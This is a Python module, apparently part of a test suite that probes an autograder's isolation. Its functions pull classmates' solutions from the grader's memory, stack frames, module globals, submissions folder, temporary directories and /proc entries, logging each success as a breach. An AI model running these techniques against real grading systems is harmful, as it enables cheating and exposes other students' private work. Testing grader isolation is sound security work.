# ruff: noqa: F821
"""Copy a classmate's work: their code from the grader's memory, their notebook from the
submissions folder, their observation files from the grader's temporary folders."""

import gc
import glob
import json
import os
import sys


def _classmate_sources(texts):
    """Sources that look like a classmate's solved cells."""
    bad = ("NotImplementedError", "P[", "attempt", "leak(", "STOLEN", "ctypes", "fork")
    return [
        t for t in dict.fromkeys(texts)
        if isinstance(t, str) and "def " in t and any(f"def {g}(" in t for g in GRADED)
        and not any(b in t for b in bad)
    ]  # fmt: skip


@attempt
def copy_from_gc_cells():
    """Cell objects of the whole class held by the process that forked us."""
    texts = []
    for obj in gc.get_objects():
        src = getattr(obj, "source", None) if type(obj).__name__ == "CodeCell" else None
        if isinstance(src, str):
            texts.append(src)
    texts += strings_in_memory(P["marker_prefix"])
    mine = fresh_namespace()
    for src in _classmate_sources(texts):
        if P["marker_prefix"] in src:
            loot(src, "[gc]")
        exec_definitions(src, mine)
    steal_from(mine, "copy-gc")


@attempt
def copy_from_frames():
    """Locals of the grader's frames above us: the queue of submissions still to run."""
    texts, frame = [], sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            todo = [value]
            for _ in range(3):
                nxt = []
                for v in todo:
                    if isinstance(v, str):
                        texts.append(v)
                    elif isinstance(v, (list, tuple, set)) or type(v).__name__ == "deque":
                        nxt.extend(list(v)[:500])
                    elif isinstance(v, dict):
                        nxt.extend(list(v.values())[:500])
                    elif hasattr(v, "source"):
                        nxt.append(getattr(v, "source", None))
                todo = nxt
        frame = frame.f_back
    mine = fresh_namespace()
    for src in _classmate_sources(texts):
        exec_definitions(src, mine)
    steal_from(mine, "copy-frames")


@attempt
def copy_from_modules():
    """Module globals: anything the grading process keeps about other students."""
    mine = fresh_namespace()
    for name, module in list(sys.modules.items()):
        if not name.startswith(("autograder", "__main__", "cnn_course")):
            continue
        for value in list(vars(module).values()):
            if callable(value) and getattr(value, "__name__", "") in GRADED:
                code = getattr(value, "__code__", None)
                if code is not None and code.co_filename.startswith("<cell"):
                    mine.setdefault(value.__name__, value)
    steal_from(mine, "copy-modules")


@attempt
def copy_from_submissions_folder():
    """A classmate's notebook, read from the folder the grader was given."""
    for path in sorted(glob.glob(os.path.join(P["submissions"], "**", "*.ipynb"), recursive=True)):
        if os.path.basename(path) == P["student"] + ".ipynb":
            continue
        raw = read(path, 8 << 20)
        if raw is None:
            continue
        breach("read-classmate-notebook", raw.decode("utf-8", "replace"))
        try:
            cells = json.loads(raw)["cells"]
        except Exception:  # noqa: BLE001
            continue
        mine = fresh_namespace()
        for cell in cells:
            src = "".join(cell.get("source", ""))
            if cell.get("cell_type") == "code" and "NotImplementedError" not in src:
                exec_definitions(src, mine)
        if steal_from(mine, "copy-notebook-file"):
            break


@attempt
def copy_from_grader_tmp():
    """Observation files and notebooks of classmates in the grader's temporary folders."""
    _, others = observation_dirs()
    for d in sorted(others):
        for name in sorted(os.listdir(d))[:5]:
            data = read(os.path.join(d, name), 4096)
            if data:
                breach("read-classmate-observations", f"{d}/{name}: {data[:120]!r}")
    for path in glob.glob("/tmp/autograder-*/**/*.ipynb", recursive=True)[:20]:
        data = read(path)
        if data:
            breach("read-notebook-in-grader-tmp", data.decode("utf-8", "replace"))


@attempt
def copy_from_other_processes():
    """Memory and working folders of the processes graded beside us."""
    for pid in batch_pids():
        cwd = None
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            pass
        if cwd:
            breach("see-classmate-cwd", f"pid {pid} works in {cwd}")
